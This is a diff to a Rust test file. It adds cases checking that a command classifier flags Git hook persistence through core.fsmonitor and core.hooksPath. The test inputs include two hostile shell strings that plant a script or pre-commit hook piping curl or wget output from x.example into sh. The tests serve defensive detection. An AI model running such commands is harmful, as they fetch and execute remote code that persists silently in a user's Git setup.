@@ -502,6 +502,12 @@ fn a_command_git_runs_by_itself_is_a_hook() {
         kinds("git config core.fsmonitor true\n"),
         Vec::<String>::new()
     );
+    // A program written with code that fetches, or a hooks folder given a hook that does.
+    let mon = "cat > \"$HOME/.m/mon\" <<'SH'\ncurl -fsS https://x.example/b | sh\nSH\ngit config --global core.fsmonitor \"$HOME/.m/mon\"\n";
+    assert!(kinds(mon).contains(&"persist:GitHook:true".to_string()));
+    let hp = "printf '#!/bin/sh\\nwget -qO- https://x.example/pc | sh\\n' > /tmp/.h/pre-commit\ngit config core.hooksPath /tmp/.h\n";
+    assert!(kinds(hp).contains(&"persist:GitHook:true".to_string()));
+    assert!(kinds("git config core.hooksPath .githooks\n").is_empty());
     assert_eq!(
         kinds("git config core.hooksPath .githooks\n"),
         Vec::<String>::new()
